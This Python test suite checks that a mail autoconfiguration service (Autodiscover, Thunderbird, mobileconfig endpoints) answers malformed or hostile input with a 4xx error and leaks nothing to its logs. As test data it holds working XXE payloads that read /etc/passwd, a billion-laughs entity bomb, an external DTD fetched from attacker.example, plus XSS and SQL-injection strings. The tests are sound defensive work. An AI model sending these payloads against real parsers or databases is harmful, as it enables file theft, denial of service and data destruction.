"""Hostile and broken input: always a 4xx with a useful body, never a 500, never a prompt."""

import logging
from xml.sax.saxutils import escape

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from tests.autoconfig.expected import (
    autodiscover_error_code,
    autodiscover_protocols,
    autodiscover_request,
)

AUTODISCOVER = "/autodiscover/autodiscover.xml"
REQUEST_NS = "http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006"

XXE = f"""<?xml version="1.0"?>
<!DOCTYPE Autodiscover [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Autodiscover xmlns="{REQUEST_NS}"><Request><EMailAddress>&xxe;</EMailAddress></Request></Autodiscover>
""".encode()

BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Autodiscover xmlns="{REQUEST_NS}"><Request><EMailAddress>&lol9;@vasadomena.si</EMailAddress></Request></Autodiscover>
""".encode()

EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE Autodiscover SYSTEM "http://attacker.example/evil.dtd">
<Autodiscover xmlns="{REQUEST_NS}"><Request><EMailAddress>info@vasadomena.si</EMailAddress></Request></Autodiscover>
""".encode()

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "file:///etc/passwd"> %remote;]>
<Autodiscover/>
"""

JUNK_ADDRESSES = [
    "",
    "   ",
    "no-at-sign",
    "two@@vasadomena.si",
    "@vasadomena.si",
    "info@",
    "a" * 10_000,
    "a" * 10_000 + "@vasadomena.si",
    "info@" + "a" * 10_000 + ".si",
    "<script>alert(1)</script>@vasadomena.si",
    "info@<script>.si",
    "info@vasa\x00domena.si",
    "in\x00fo@vasadomena.si",
    "info@xn--.si",
    "info@xn--zzz-.si",
    "info@-čebelica.si",
    "info@čebelica..si",
    "info@\u200b.si",
    "info@\ufffd\ufffd.si",
    "info@127.0.0.1",
    "info@localhost",
    "'; DROP TABLE mail_hostingpackage; --@vasadomena.si",
]


def post(client, body, content_type="text/xml", **extra):
    # The test client drops the content type of an empty body; a real client would send it.
    extra.setdefault("CONTENT_TYPE", content_type)
    return client.post(AUTODISCOVER, body, content_type=content_type, **extra)


def assert_autodiscover_error(response, status, code="600"):
    assert response.status_code == status
    assert "WWW-Authenticate" not in response
    assert response["Content-Type"] == "application/xml; charset=utf-8"
    assert autodiscover_error_code(response.content) == code


@pytest.mark.parametrize(
    "body",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["xxe", "laughs", "dtd", "pe"],
)
def test_entities_and_dtds_are_refused_unread(client, hosted, body):
    response = post(client, body)
    assert_autodiscover_error(response, 400)
    assert b"root:" not in response.content
    assert b"lollol" not in response.content


def test_three_megabyte_body_is_refused_before_it_is_read(client, hosted):
    body = autodiscover_request("info@vasadomena.si") + b"<!--" + b"x" * 3_000_000 + b"-->"
    assert_autodiscover_error(post(client, body), 413)


def test_a_body_just_over_the_cap_is_refused_and_one_just_under_is_answered(client, hosted):
    request = autodiscover_request("info@vasadomena.si")
    padding = 64 * 1024 - len(request) - len(b"<!---->")
    answered = post(client, request + b"<!--" + b"x" * padding + b"-->")
    assert answered.status_code == 200
    assert autodiscover_protocols(answered.content)[0]["Server"] == "streznik.avant.si"
    assert_autodiscover_error(post(client, request + b"<!--" + b"x" * (padding + 1) + b"-->"), 413)


def test_reading_stops_at_the_announced_length(client, hosted):
    # A client that announces 100 bytes and sends 3 MB gets only 100 bytes read: not XML.
    body = autodiscover_request("info@vasadomena.si") + b" " * 3_000_000
    assert_autodiscover_error(post(client, body, CONTENT_LENGTH="100"), 400)


def test_djangos_own_upload_limit_never_turns_a_request_into_a_500(client, settings, hosted):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 100  # smaller than any real request
    response = post(client, autodiscover_request("info@vasadomena.si"))
    assert response.status_code == 200
    assert autodiscover_protocols(response.content)[0]["LoginName"] == "info@vasadomena.si"


@pytest.mark.parametrize("length", ["lots", "-5", "1e3"])
def test_an_unparseable_content_length_is_refused(client, hosted, length):
    response = post(client, autodiscover_request("info@vasadomena.si"), CONTENT_LENGTH=length)
    assert_autodiscover_error(response, 400)


def test_empty_body_is_an_invalid_request(client, hosted):
    assert_autodiscover_error(post(client, b""), 400)


@pytest.mark.parametrize(
    "content_type",
    [
        "application/json",
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "",
    ],
)
def test_wrong_content_type_is_unsupported_media_type(client, hosted, content_type):
    response = post(client, autodiscover_request("info@vasadomena.si"), content_type=content_type)
    assert_autodiscover_error(response, 415)


@pytest.mark.parametrize("address", JUNK_ADDRESSES)
def test_junk_address_in_autodiscover_is_an_invalid_request(client, hosted, address):
    response = post(client, autodiscover_request(escape(address)))
    assert_autodiscover_error(response, 400)


def test_nul_bytes_in_the_xml_itself_are_an_invalid_request(client, hosted):
    assert_autodiscover_error(post(client, autodiscover_request("info@vasa\x00domena.si")), 400)


@pytest.mark.parametrize("address", JUNK_ADDRESSES)
@pytest.mark.parametrize(
    "path", ["/mail/config-v1.1.xml", "/.well-known/autoconfig/mail/config-v1.1.xml"]
)
def test_junk_emailaddress_for_thunderbird_is_a_bad_request(client, hosted, path, address):
    response = client.get(path, {"emailaddress": address})
    assert response.status_code == 400
    assert "WWW-Authenticate" not in response


@pytest.mark.parametrize("address", JUNK_ADDRESSES)
def test_junk_emailaddress_or_domain_for_the_profile_is_a_bad_request(client, hosted, address):
    assert client.get("/mobileconfig/", {"emailaddress": address}).status_code == 400
    assert client.get("/mobileconfig/", {"domain": address}).status_code == 400


@pytest.mark.parametrize(
    "host", ["autoconfig.", "autoconfig.-x-.si", "[::1]", "10.0.0.1", "autoconfig.localhost"]
)
def test_hosts_that_are_no_domain_are_a_bad_request(client, hosted, host):
    assert client.get("/mail/config-v1.1.xml", headers={"host": host}).status_code == 400


def test_no_request_body_or_address_reaches_the_logs(client, hosted, caplog):
    caplog.set_level(logging.DEBUG)
    secret = "tajni-predal"
    post(client, autodiscover_request(f"{secret}@vasadomena.si"))
    post(client, autodiscover_request(f"{secret}@drugadomena.si"))
    post(client, XXE)
    post(client, autodiscover_request(f"{secret}@vasadomena.si"), content_type="text/plain")
    client.get("/mail/config-v1.1.xml", {"emailaddress": f"{secret}@drugadomena.si"})
    client.get("/mobileconfig/", {"emailaddress": f"{secret}@"})
    logged = "\n".join(record.getMessage() for record in caplog.records)
    assert secret not in logged
    assert "passwd" not in logged


@hypothesis_settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(body=st.binary(max_size=2048))
def test_any_bytes_posted_to_autodiscover_get_an_error_document(client, hosted, body):
    response = post(client, body)
    assert response.status_code in {400, 404}
    assert autodiscover_error_code(response.content) in {"500", "600", "601"}


@hypothesis_settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(value=st.text(max_size=300))
def test_any_text_as_emailaddress_is_answered_without_a_server_error(client, hosted, value):
    for path in ("/mail/config-v1.1.xml", "/mobileconfig/"):
        assert client.get(path, {"emailaddress": value}).status_code in {200, 400, 404}
    assert client.get("/dns/", {"domain": value}).status_code in {200, 400, 404}


# Encodings an XML declaration may name: ones Python does not know, codecs that are no text
# encoding (rot13, hex, …), multi-byte ones the body is not written in, and ordinary ones.
DECLARED_ENCODINGS = [
    "rot13", "hex", "base64", "zlib", "bz2", "uu", "quopri", "nonexistent", "mbcs", "x-mac-foo",
    "utf-16", "utf-32", "utf-7", "idna", "punycode", "unicode_escape", "cp037",
    "utf-8", "UTF-8", "us-ascii", "iso-8859-2", "windows-1250", "latin-1",
]  # fmt: skip


def declared(encoding: str, address: str = "info@vasadomena.si") -> bytes:
    body = autodiscover_request(address).split(b"?>", 1)[1]
    return f"<?xml version='1.0' encoding='{encoding}'?>".encode("ascii", "replace") + body


@pytest.mark.parametrize("encoding", DECLARED_ENCODINGS)
def test_any_declared_encoding_gets_settings_or_an_invalid_request(client, hosted, encoding):
    response = post(client, declared(encoding))
    if response.status_code == 200:  # an encoding the ASCII body is also valid in
        assert b"streznik.avant.si" in response.content
    else:
        assert response.status_code == 400
        assert autodiscover_error_code(response.content) == "600"


@hypothesis_settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    encoding=st.sampled_from(DECLARED_ENCODINGS)
    | st.text(
        st.characters(min_codepoint=33, max_codepoint=126, exclude_characters="'"), max_size=30
    )
)
def test_no_declared_encoding_is_a_server_error(client, hosted, encoding):
    response = post(client, declared(encoding))
    assert response.status_code in {200, 400}
    assert autodiscover_error_code(response.content) in {None, "600"}
